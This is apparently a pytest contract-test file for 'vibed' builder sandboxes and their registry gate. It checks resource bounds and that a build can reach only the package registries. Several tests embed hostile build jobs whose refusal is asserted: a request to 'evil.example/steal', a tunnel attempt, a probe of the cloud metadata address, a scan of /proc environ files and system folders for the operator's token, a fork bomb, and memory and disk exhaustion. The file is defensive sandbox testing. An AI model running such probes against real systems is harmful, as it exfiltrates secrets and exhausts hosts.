"""Builder sandboxes: jobs in them, their one way out, and what it does not let through.

Every driver that has builders, with the real programs, against registries on the loopback interface.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import sys
from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from tests.contract.driver_kit import SUBJECTS, Bench, Running, Subject, bench, gone
from tests.contract.fake_registry import FakeRegistry, fake_registry, npm_package, wheel
from vibed.apps.app import Runtime, Start
from vibed.runtimes.gate import Gate, registry_gate
from vibed.runtimes.registries import Proxy, Registries
from vibed.sandboxes.driver import BootFailed, Builder, Mount, Run, RunFailed
from vibed.supervision.base import SupervisedDriver
from vibed.supervision.cgroups import BUILDING

pytestmark = [pytest.mark.root, pytest.mark.timeout(180)]

builders = pytest.mark.parametrize("subject", [s for s in SUBJECTS.values() if s.general], ids=lambda s: s.name)
one = pytest.mark.parametrize("subject", [SUBJECTS["process"]], ids=lambda s: s.name)
BOUNDS = Builder(cpus=2.0, memory_mb=256, pids=64, disk_mb=64)
GET = """
import sys, urllib.request, urllib.error, json
def get(url, **headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=30) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()
GATE = "http://127.0.0.1:3128"
"""


@pytest.fixture
async def on(tmp_path: Path) -> AsyncIterator[Bench]:
    async with bench(tmp_path) as it:
        yield it


@pytest.fixture
def registry() -> Iterator[FakeRegistry]:
    with fake_registry() as it:
        it.files["tiny-1.0-py3-none-any.whl"] = wheel("tiny", "1.0", {"tiny.py": "WORD = 'small'\n"})
        it.packages["tiny"] = {"1.0.0": npm_package({"package.json": '{"name": "tiny", "version": "1.0.0"}'})}
        yield it


def registries(registry: FakeRegistry) -> Registries:
    return Registries(pypi=(registry.index,), npm=registry.npm, go=f"{registry.url}/go")


@dataclass
class Job:
    """A job that was run: its log is complete."""

    log_dir: Path

    def texts(self, *streams: str) -> list[str]:
        lines = [json.loads(line) for line in (self.log_dir / "log.jsonl").read_text().splitlines()]
        return [line["text"] for line in lines if not streams or line["stream"] in streams]


@dataclass
class Shop:
    """Runs jobs of one driver, each in a builder of its own."""

    on: Bench
    driver: SupervisedDriver
    gate: Gate | None = None
    bounds: Builder = BOUNDS
    jobs: int = 0

    async def run(
        self,
        *steps: Sequence[str],
        files: Mapping[str, str] | None = None,
        mounts: Sequence[Mount] = (),
        timeout_s: float = 60.0,
    ) -> Job:
        """Raises `RunFailed`; the log is there either way, at `self.log_dir`."""
        sandbox = await self.driver.boot("python-313", urgent=True, builder=self.bounds)
        self.on.sandboxes.append(sandbox)
        if self.gate is not None:
            mounts = (self.gate.mount, *mounts)
        runtime = Runtime("general", "python-313", "build", "", "test", start=Start(build=tuple(map(tuple, steps))))
        run = Run(
            "build",
            1,
            1,
            self.on.archive(files or {"x": ""}),
            runtime,
            {"NAME": "value"},
            self.bounds,
            mounts=mounts,
            start_timeout_s=timeout_s,
        )
        self.jobs += 1
        job = Job(self.log_dir)
        try:
            await sandbox.run(run, socket=self.on.scratch / "no.sock", log_dir=job.log_dir, on_stage=lambda stage: None)
        finally:
            await sandbox.destroy(0)
        return job

    @property
    def log_dir(self) -> Path:
        """Of the last job."""
        return self.on.scratch / f"log-of-{id(self)}-{self.jobs}"

    async def python(self, code: str, **more: object) -> list[str]:
        """What a Python program prints in a job."""
        job = await self.run(("python3", "-c", GET + code), **more)  # type: ignore[arg-type]
        return job.texts("build")


def shop(on: Bench, subject: Subject, gate: Gate | None = None) -> Shop:
    driver = subject.driver(on)
    assert isinstance(driver, SupervisedDriver)
    return Shop(on, driver, gate)


@asynccontextmanager
async def open_shop(on: Bench, subject: Subject, registry: FakeRegistry) -> AsyncIterator[tuple[Shop, Gate]]:
    """A shop whose jobs have a gate to the fake registry."""
    place = shop(on, subject)
    async with registry_gate(place.driver.host, registries(registry)) as gate:
        place.gate = gate
        yield place, gate


# Jobs


@builders
async def test_a_builder_that_an_earlier_controller_booted_is_ended_and_never_an_apps(
    on: Bench, subject: Subject
) -> None:
    first, later = subject.driver(on), subject.driver(on)
    await first.boot("python-313", builder=Builder())
    await first.close()
    assert list(await later.adopt()) == []
    assert list(on.layout.sandboxes.iterdir()) == []
    await later.close()


@builders
async def test_a_job_runs_its_steps_and_ends(on: Bench, subject: Subject) -> None:
    steps = (("python3", "-c", "open('made', 'w').write('x'); print('first')"), ("sh", "-c", "ls; echo $NAME >&2"))
    job = await shop(on, subject).run(*steps, files={"given": "y"})
    assert sorted(job.texts("build")) == ["first", "given", "made", "value"]
    assert job.texts("system") == []  # an app's own log, in which other jobs may come after it
    assert await gone(on) == []


@builders
async def test_a_job_that_fails_says_how_and_with_which_words(on: Bench, subject: Subject) -> None:
    place = shop(on, subject)
    with pytest.raises(RunFailed) as failed:
        await place.run(("true",), ("sh", "-c", "echo out; echo 'no such thing' >&2; exit 3"), ("echo", "never"))
    assert failed.value.error_code == "BuildFailed"
    assert failed.value.exit is not None
    assert failed.value.exit.code == 3
    assert sorted(failed.value.exit.tail) == ["no such thing", "out"]
    assert "never" not in Job(place.log_dir).texts()
    assert Job(place.log_dir).texts("system") == []
    assert await gone(on) == []


@builders
async def test_a_job_ends_with_all_that_it_has_left_running(on: Bench, subject: Subject) -> None:
    await shop(on, subject).run(("sh", "-c", "setsid sh -c 'while true; do sleep 1; done' & exit 0"))
    assert await gone(on) == []


@builders
async def test_a_job_is_bounded_in_time_with_all_of_its_steps(on: Bench, subject: Subject) -> None:
    with pytest.raises(RunFailed) as failed:
        await shop(on, subject).run(*[("sleep", "4")] * 5, timeout_s=6.0)
    assert failed.value.error_code == "BuildFailed"
    assert "was not done within 6s" in str(failed.value)
    assert await gone(on) == []


@one
async def test_a_build_leaves_the_processors_to_what_serves(on: Bench, subject: Subject) -> None:
    job = asyncio.create_task(shop(on, subject).run(["/bin/sleep", "60"]))
    try:
        while not on.sandboxes or on.sandboxes[-1].claimed is None:
            assert not job.done(), await job
            await asyncio.sleep(0.01)
        group = on.host().cgroups.get(on.sandboxes[-1].id)
        file, factor = ("cpu.weight", 1) if group.unified else ("cpu.shares", 1024 / 100)
        assert int((group.folders["cpu"] / file).read_text()) == int(BUILDING * factor)
    finally:
        job.cancel()
        await asyncio.gather(job, return_exceptions=True)


@builders
async def test_a_builder_is_bounded_in_memory(on: Bench, subject: Subject) -> None:
    with pytest.raises(RunFailed) as failed:
        await shop(on, subject).run(("python3", "-c", "b = []\nwhile True: b.append(bytearray(b'x' * (8 << 20)))"))
    assert failed.value.error_code == "BuildFailed"
    assert failed.value.exit is not None
    assert failed.value.exit.oom
    assert await gone(on) == []


@builders
async def test_a_builder_is_bounded_in_what_it_writes(on: Bench, subject: Subject) -> None:
    place = shop(on, subject)
    with pytest.raises(RunFailed) as failed:
        await place.run(("python3", "-c", "f = open('/tmp/x', 'wb')\nwhile True: f.write(b'x' * (1 << 20))"))
    assert failed.value.exit is not None
    assert "No space left on device" in failed.value.exit.tail[-1]


@builders
async def test_a_builder_has_room_for_its_bound_in_one_place(on: Bench, subject: Subject) -> None:
    assert await shop(on, subject).python("print(open('/tmp/x', 'wb').write(b'x' * (60 << 20)) >> 20)") == ["60"]


@builders
async def test_a_fork_bomb_in_a_builder_ends_with_its_job(on: Bench, subject: Subject) -> None:
    bomb = "import os\nwhile True:\n  try: os.fork()\n  except OSError: pass"
    with pytest.raises(RunFailed):
        await shop(on, subject).run(("python3", "-c", bomb), timeout_s=5.0)
    assert await gone(on) == []


@builders
async def test_a_builder_runs_no_app(on: Bench, subject: Subject) -> None:
    driver = subject.driver(on)
    sandbox = await driver.boot(subject.template, builder=BOUNDS)
    on.sandboxes.append(sandbox)
    with pytest.raises(RunFailed) as failed:
        await subject.start(on, driver, replace(subject.run(on), limits=BOUNDS), sandbox)
    assert "a builder sandbox runs no app" in str(failed.value)


@pytest.mark.parametrize("subject", [SUBJECTS["static"], SUBJECTS["workerd"]], ids=lambda s: s.name)
async def test_a_driver_without_builders_says_so(on: Bench, subject: Subject) -> None:
    with pytest.raises(BootFailed) as failed:
        await subject.driver(on).boot(subject.template, builder=BOUNDS)
    assert "no builder sandboxes" in str(failed.value)
    assert not failed.value.may_retry


@builders
async def test_what_a_job_made_comes_out_by_a_mount(on: Bench, subject: Subject) -> None:
    out = on.scratch / "out"
    out.mkdir()
    out.chmod(0o777)
    code = "open('/layers/out/layer.tar', 'w').write('whole')"
    await shop(on, subject).run(("python3", "-c", code), mounts=[Mount(out, "/layers/out", writable=True)])
    assert (out / "layer.tar").read_text() == "whole"


# The way out


@builders
async def test_a_build_fetches_pages_and_files_by_the_gate(on: Bench, subject: Subject, registry: FakeRegistry) -> None:
    code = """
status, page = get(GATE + "/pypi/simple/tiny/", Accept="application/vnd.pypi.simple.v1+json")
url = json.loads(page)["files"][0]["url"]
print(status, url.startswith(GATE + "/pypi/file/"), url.endswith("/tiny-1.0-py3-none-any.whl"))
status, content = get(url)
print(status, content[:2], b"Name: tiny" in get(url + ".metadata")[1])
status, page = get(GATE + "/npm/tiny")
url = json.loads(page)["versions"]["1.0.0"]["dist"]["tarball"]
print(status, url, get(url)[1][:2])
"""
    async with open_shop(on, subject, registry) as (place, gate):
        assert await place.python(code) == [
            "200 True True",
            "200 b'PK' True",
            "200 http://127.0.0.1:3128/npm/tiny/-/tiny-1.0.0.tgz b'\\x1f\\x8b'",
        ]
        assert gate.denied() == {}
        assert gate.trouble() == ()
    assert await gone(on) == []


@builders
async def test_whatever_else_a_build_asks_for_is_refused_and_named(
    on: Bench, subject: Subject, registry: FakeRegistry
) -> None:
    code = """
import http.client, socket
proxy = http.client.HTTPConnection("127.0.0.1", 3128)
proxy.request("GET", "http://evil.example/steal?everything")
answer = proxy.getresponse()
print(answer.status, answer.read().decode().strip())
proxy = http.client.HTTPConnection("127.0.0.1", 3128)
proxy.set_tunnel("evil.example", 443)
try: proxy.connect()
except OSError as error: print(error)
print(get(GATE + "/anything")[0], get(GATE + "/pypi/file/made-up/x.whl")[0])
for address in (("1.1.1.1", 53), ("169.254.169.254", 80), ("127.0.0.1", int(sys.argv[1]))):
    try: socket.create_connection(address, 2); print("reached")
    except OSError: print("unreachable")
"""
    async with open_shop(on, subject, registry) as (place, gate):
        job = await place.run(("python3", "-c", GET + code, str(registry.port)))
        refused = "a build reaches the package registries only, at http://127.0.0.1:3128: evil.example:80 is refused"
        assert job.texts("build") == [
            f"403 {refused}",
            "Tunnel connection failed: 403 Forbidden",
            "404 403",
            *["unreachable"] * 3,
        ]
        assert gate.denied() == {"evil.example:80": 1, "evil.example:443": 1}
    assert registry.asked == []


@builders
async def test_the_operators_credentials_do_not_reach_a_build(
    on: Bench, subject: Subject, registry: FakeRegistry
) -> None:
    registry.authorization = "Bearer the-operators-token"
    code = """
import os, re
print(get(GATE + "/pypi/simple/tiny/")[0], get(GATE + "/npm/tiny")[0])
found = b""
for place in ("/layers", "/run", "/etc", "/tmp", "/app", "/home"):
    for top, folders, files in os.walk(place):
        for name in files:
            try: found += open(os.path.join(top, name), "rb").read(1 << 20)
            except OSError: pass
for process in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try: found += open(f"/proc/{process}/{name}", "rb").read(1 << 20)
        except OSError: pass
print(re.findall(b"the-operators" + b"-token", found), os.listdir("/layers/registry"))
"""
    place = shop(on, subject)
    known = replace(registries(registry), authorization={f"{registry.url}/": registry.authorization})
    async with registry_gate(place.driver.host, known) as place.gate:
        assert await place.python(code) == ["200 200", "[] ['registry.sock']"]
        assert "the-operators-token" not in str(place.gate.env)


@one
async def test_registries_behind_the_machines_proxy_are_reached_through_it(
    on: Bench, subject: Subject, registry: FakeRegistry
) -> None:
    place = shop(on, subject)
    proxy = Proxy(http=registry.url.replace("//", "//me:secret@"))
    known = Registries(pypi=("http://registry.example/simple/",), proxy=proxy)
    async with registry_gate(place.driver.host, known) as place.gate:
        assert await place.python('print(*get(GATE + "/pypi/simple/tiny/")[:1])') == ["200"]
    (asked,) = registry.asked
    assert asked.path == "http://registry.example/simple/tiny/"
    assert asked.headers["proxy-authorization"] == "Basic bWU6c2VjcmV0"


@one
async def test_a_registry_that_fails_is_told_as_such(on: Bench, subject: Subject, registry: FakeRegistry) -> None:
    registry.status["/simple/"] = 503
    registry.lies.add("tiny-1.0.0.tgz")
    code = """
print(*get(GATE + "/pypi/simple/tiny/"))
page = json.loads(get(GATE + "/npm/tiny")[1])
print(get(page["versions"]["1.0.0"]["dist"]["tarball"])[0])
"""
    async with open_shop(on, subject, registry) as (place, gate):
        host = f"127.0.0.1:{registry.port}"
        assert await place.python(code) == [
            f"502 b'the registry {host} answers 503; trying again may help\\n'",
            "502",
        ]
        ill, lying = gate.trouble()
        assert ill == f"the registry {host} answers 503; trying again may help"
        assert lying.startswith(
            f"the download {host}/npm/tiny/-/tiny-1.0.0.tgz is not what the registry's own page says"
        )


@one
async def test_what_one_build_has_downloaded_the_next_has_at_once(
    on: Bench, subject: Subject, registry: FakeRegistry
) -> None:
    code = """
page = json.loads(get(GATE + "/pypi/simple/tiny/", Accept="application/vnd.pypi.simple.v1+json")[1])
print(len(get(page["files"][0]["url"])[1]))
"""
    for _ in range(2):
        async with open_shop(on, subject, registry) as (place, _gate):
            assert await place.python(code) == [str(len(registry.files["tiny-1.0-py3-none-any.whl"]))]
    assert registry.paths().count("/files/tiny-1.0-py3-none-any.whl") == 1
    downloads = on.layout.downloads
    assert downloads.stat().st_uid == on.layout.uids.registries
    assert downloads.stat().st_mode & 0o777 == 0o700


@one
async def test_a_build_that_asks_for_others_in_a_loop_is_bounded(
    on: Bench, subject: Subject, registry: FakeRegistry
) -> None:
    code = """
import http.client
proxy = http.client.HTTPConnection("127.0.0.1", 3128)
for n in range(3000):
    proxy.request("GET", f"http://h{n}.example/")
    proxy.getresponse().read()
print(get(GATE + "/npm/tiny")[0])
"""
    async with open_shop(on, subject, registry) as (place, gate):
        assert await place.python(code) == ["200"]
        assert len(gate.denied()) == 1000


@builders
async def test_a_builder_without_a_gate_reaches_nobody(on: Bench, subject: Subject) -> None:
    code = """
import http.client
try: print(get(GATE + "/pypi/simple/tiny/"))
except (OSError, http.client.HTTPException) as error: print(type(error).__name__)
"""
    assert (await shop(on, subject).python(code))[0] in ("RemoteDisconnected", "ConnectionResetError")


@builders
async def test_an_apps_sandbox_has_nothing_of_it(on: Bench, subject: Subject, registry: FakeRegistry) -> None:
    driver = subject.driver(on)
    assert isinstance(driver, SupervisedDriver)
    async with registry_gate(driver.host, registries(registry)) as gate:
        # even where the gate's folder was mounted: an app's sandbox connects to no socket of the host
        mounts = (gate.mount,) if subject.name == "gvisor" else ()
        app: Running = await subject.start(on, driver, subject.run(on, mounts=mounts))
        tcp = "__import__('socket').create_connection(('127.0.0.1', 3128), 1)"
        assert "ConnectionRefusedError" in await app.ask(tcp)
        unix = "(s := __import__('socket').socket(1)).connect('/layers/registry/registry.sock') or s"
        assert "Error" in await app.ask(unix)


@one
async def test_the_gate_ends_with_its_build(on: Bench, subject: Subject, registry: FakeRegistry) -> None:
    async with open_shop(on, subject, registry) as (place, gate):
        folder = gate.mount.source
        assert (folder / "registry.sock").is_socket()
        assert _gates(on)
    assert not folder.exists()
    assert _gates(on) == []
    assert place.driver.host.cgroups.ids() == set()


@one
async def test_the_gate_ends_with_a_vibed_that_is_killed(on: Bench, subject: Subject, registry: FakeRegistry) -> None:
    code = f"""
import asyncio, sys
from pathlib import Path
from tests.contract.driver_kit import TestRoots, programs
from tests.prepare import home
from vibed.layout import Layout, Uids
from vibed.runtimes.gate import registry_gate
from vibed.runtimes.registries import Registries
from vibed.supervision.host import Host
async def main():
    layout = Layout(Path({str(on.layout.home)!r}), Path({str(on.layout.runtime)!r}), Uids({on.layout.uids.base}))
    async with registry_gate(Host(layout, programs(), TestRoots(home())), Registries(pypi=({registry.index!r},))):
        print("open", flush=True)
        await asyncio.sleep(3600)
asyncio.run(main())
"""
    process = await asyncio.create_subprocess_exec(sys.executable, "-c", code, stdout=asyncio.subprocess.PIPE)
    assert process.stdout is not None
    assert await process.stdout.readline() == b"open\n"
    assert _gates(on)
    os.kill(process.pid, signal.SIGKILL)
    await process.wait()
    for _ in range(200):
        if not _gates(on):
            break
        await asyncio.sleep(0.02)
    assert _gates(on) == []


def _gates(on: Bench) -> list[str]:
    """The processes of registry gates of this bench."""
    found = []
    for process in Path("/proc").iterdir():
        try:
            if process.name.isdigit() and process.stat().st_uid == on.layout.uids.registries:
                command = (process / "cmdline").read_text()
                if command:  # else it has ended and nobody has asked how
                    found.append(command)
        except OSError:
            continue
    return found
